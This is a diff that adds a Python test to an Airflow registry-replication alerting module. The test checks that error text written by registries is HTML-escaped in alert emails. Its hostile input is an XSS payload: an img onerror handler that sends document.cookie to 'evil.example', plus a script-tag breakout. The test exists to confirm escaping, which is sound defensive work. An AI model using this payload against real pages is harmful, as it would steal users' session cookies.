@@ -360,3 +360,31 @@ def _outcomes(store: Store) -> list[dict[str, Any]]:
     with store.engine.connect() as conn:
         return [dict(r._mapping) for r in conn.execute(
             sa.select(dag_outcomes).order_by(dag_outcomes.c.id))]
+
+
+def test_the_alert_e_mail_example_escapes_what_registries_wrote(store, monkeypatch):
+    """An error text comes from whatever answered at a registry's address: the README's
+    ``html_content`` shows it as text, never as markup."""
+    from registry_replication.airflow import alerts
+
+    hostile = ("<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"> & "
+               "</pre><script>alert(1)</script>")
+    store.queue.add([Event("e1", "push", "group/app", "v1", None, None,
+                           dt.datetime.now(dt.timezone.utc))])
+    owner, _ = store.queue.claim()
+    store.queue.retry_later(owner, ["e1"], f"get manifest: HTTP 400 MANIFEST_INVALID: {hostile}",
+                            max_attempts=1)
+    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER", f"{__name__}.RecordingNotifier")
+    monkeypatch.setenv("AIRFLOW__REGISTRY_REPLICATION__NOTIFIER_KWARGS", json.dumps(
+        {"subject": "{{ replication_alert.subject }}",
+         "message": "{{ replication_alert.html }}"}))  # the README's html_content
+    RecordingNotifier.calls.clear()
+    alerts.notify({"dag_run": {"dag_run_id": "manual__1"}}, alerts.FAILED, "registry_events",
+                  "manual__1")
+    [alert] = RecordingNotifier.calls
+    message = alert["message"]
+    assert message.startswith("<pre>[registry-replication] registry_events failed\n")
+    assert message.endswith("</pre>") and message.count("<") == 2  # <pre> and </pre> alone
+    assert ("Failed event: push group/app:v1: get manifest: HTTP 400 MANIFEST_INVALID: "
+            "&lt;img src=x onerror=&#34;fetch(&#39;//evil.example/&#39;+document.cookie)&#34;&gt; "
+            "&amp; &lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;") in message
